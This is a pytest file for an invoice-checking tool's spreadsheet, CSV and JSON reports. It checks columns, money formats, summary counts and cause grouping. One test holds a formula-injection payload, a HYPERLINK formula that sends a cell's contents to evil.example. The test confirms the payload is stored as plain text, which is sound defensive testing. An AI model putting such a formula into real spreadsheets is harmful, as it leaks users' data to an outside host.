"""The spreadsheet exports as an accountant opens them (openpyxl, Debian's python3-openpyxl), and the
causes and CSV from Python (docs/patterns.md)."""

import json
from decimal import Decimal

import openpyxl
import pytest

import billcheck
from conftest import ROOT

CAUSES_BOOK = ROOT / "tests" / "data" / "causes" / "book"
MALICIOUS_BOOK = ROOT / "tests" / "data" / "exports" / "malicious"


@pytest.fixture(scope="module")
def workbook(exe, tmp_path_factory):
    import subprocess

    out = tmp_path_factory.mktemp("xlsx") / "report.xlsx"
    r = subprocess.run([exe, "check", str(CAUSES_BOOK), "--format", "xlsx", "-o", str(out)],
                       capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert r.returncode == 1, r.stderr  # errors found: the exit status is the same in every format
    assert r.stdout == ""
    return openpyxl.load_workbook(out)


def rows_of(sheet):
    return [[c for c in row] for row in sheet.iter_rows()]


def test_the_workbook_has_a_findings_a_summary_and_a_causes_sheet(workbook):
    assert workbook.sheetnames == ["Findings", "Summary", "Causes"]


def test_findings_are_filterable_with_money_as_numbers_in_their_currency(workbook, run_cli):
    ws = workbook["Findings"]
    header = [c.value for c in ws[1]]
    csv_header = run_cli("check", CAUSES_BOOK, "--format", "csv").stdout.splitlines()[0].split(",")
    assert header == csv_header  # the same columns as the CSV
    assert header[:4] == ["rule", "severity", "category", "message"]
    assert "evidence.rate_row" in header
    assert ws.max_row == 1 + 17
    last = openpyxl.utils.get_column_letter(len(header))
    assert ws.auto_filter.ref == f"A1:{last}18"
    assert ws.freeze_panes == "A2"

    amount = header.index("amount_at_stake")
    first = [c for c in ws[2]]
    assert first[0].value == "rates.contract-rate"
    assert first[amount].data_type == "n"
    assert first[amount].value == 80
    assert first[amount].number_format == "#,##0.00 [$EUR]"
    # Every amount reads back as the exact decimal the JSON report gives.
    report = json.loads(run_cli("check", CAUSES_BOOK, "--format", "json").stdout)
    for row, finding in zip(ws.iter_rows(min_row=2), report["findings"]):
        assert row[header.index("fingerprint")].value == finding["fingerprint"]
        if "amount_at_stake" in finding:
            assert Decimal(repr(row[amount].value)).quantize(Decimal("0.01")) == Decimal(finding["amount_at_stake"])
        else:
            assert row[amount].value is None


def test_summary_counts_and_money(workbook):
    ws = workbook["Summary"]
    counts = {row[0].value: row[1].value for row in ws.iter_rows(max_row=8)}
    assert counts == {"invoices": 6, "lines": 24, "findings": 17, "errors": 15, "warnings": 2, "info": 0,
                      "waived": 0, "causes": 2}
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    at = rows.index(["currency", "overcharged", "undercharged", "credit_exposure", "amount_at_stake"])
    eur = [c for c in ws[at + 2]]
    assert [c.value for c in eur] == ["EUR", 660, 0, 0, 660]
    assert all(c.number_format == "#,##0.00 [$EUR]" for c in eur[1:])
    assert ["category", "findings"] in [r[:2] for r in rows]
    assert ["rates", 14] in [r[:2] for r in rows]


def test_causes_sheet_lists_each_cause_once(workbook, run_cli):
    ws = workbook["Causes"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0] == ["rule", "kind", "key", "severity", "findings", "currency", "amount_at_stake", "action",
                       "members"]
    report = json.loads(run_cli("check", CAUSES_BOOK, "--format", "json").stdout)
    rate = rows[1]
    assert rate[:7] == ["rates.contract-rate", "rate_row", "E-201 rates.csv:4", "error", 14, "EUR", 650]
    assert rate[7] == "apply the 2025-03-01 associate rate of 380.00 on engagement E-201 (rates.csv:4)"
    assert rate[8].split(" ") == report["causes"][0]["members"]
    assert rows[2][:7] == ["timing.late-invoice", "engagement", "E-202", "warning", 2, None, None]
    assert ws.auto_filter.ref == "A1:I3"


def test_a_books_text_is_a_string_cell_never_a_formula(exe, tmp_path):
    import subprocess

    out = tmp_path / "evil.xlsx"
    r = subprocess.run([exe, "check", str(MALICIOUS_BOOK), "--format", "xlsx", "-o", str(out)],
                       capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert r.returncode == 1, r.stderr
    ws = openpyxl.load_workbook(out)["Findings"]
    header = [c.value for c in ws[1]]
    cells = {(row[header.index("rule")].value, name): row[header.index(name)]
             for row in ws.iter_rows(min_row=2) for name in header}
    message = cells[("client-info.billing-email", "message")]
    assert message.data_type == "s"
    assert message.value.startswith('=HYPERLINK("http://evil.example/?"&A1,"Click")')
    assert cells[("client-info.billing-email", "evidence.actual")].value == "@SUM(1+1)"
    invoice = cells[("arithmetic.line-amount", "invoice")]
    assert (invoice.data_type, invoice.value) == ("s", "+INV-1")


def test_python_report_has_the_causes_and_the_csv(run_cli):
    report = billcheck.Engine().check(billcheck.load_book(CAUSES_BOOK))
    causes = report.causes
    assert [(c["rule"], c["kind"], c["key"], len(c["members"])) for c in causes] == [
        ("rates.contract-rate", "rate_row", "E-201 rates.csv:4", 14),
        ("timing.late-invoice", "engagement", "E-202", 2)]
    assert causes[0]["amount_at_stake"] == {"EUR": Decimal("650.00")}
    assert causes[0]["action"] == "apply the 2025-03-01 associate rate of 380.00 on engagement E-201 (rates.csv:4)"
    fingerprints = {f.fingerprint for f in report.findings}
    assert all(m in fingerprints for c in causes for m in c["members"])
    assert report.to_csv() == run_cli("check", CAUSES_BOOK, "--format", "csv").stdout


def test_python_writes_the_workbook(tmp_path):
    report = billcheck.Engine().check(billcheck.load_book(CAUSES_BOOK))
    report.to_xlsx(tmp_path / "report.xlsx")
    assert openpyxl.load_workbook(tmp_path / "report.xlsx").sheetnames == ["Findings", "Summary", "Causes"]


def test_python_store_trends(tmp_path):
    store = billcheck.Store(tmp_path / "record.db", by="margaret", now="2026-01-05T09:00:00Z")
    book = billcheck.load_book(CAUSES_BOOK)
    store.record(billcheck.Engine().check(book), book, book_path=str(CAUSES_BOOK))
    trends = store.trends()
    run = trends["runs"][0]
    assert run["findings"] == 17
    assert run["amount_at_stake"] == {"EUR": Decimal("660.00")}
    assert run["by_category"]["rates"] == {"findings": 14, "amount_at_stake": {"EUR": Decimal("650.00")}}
    assert trends["recurring_causes"] == []
    assert store.trends(from_date="2026-02-01")["runs"] == []
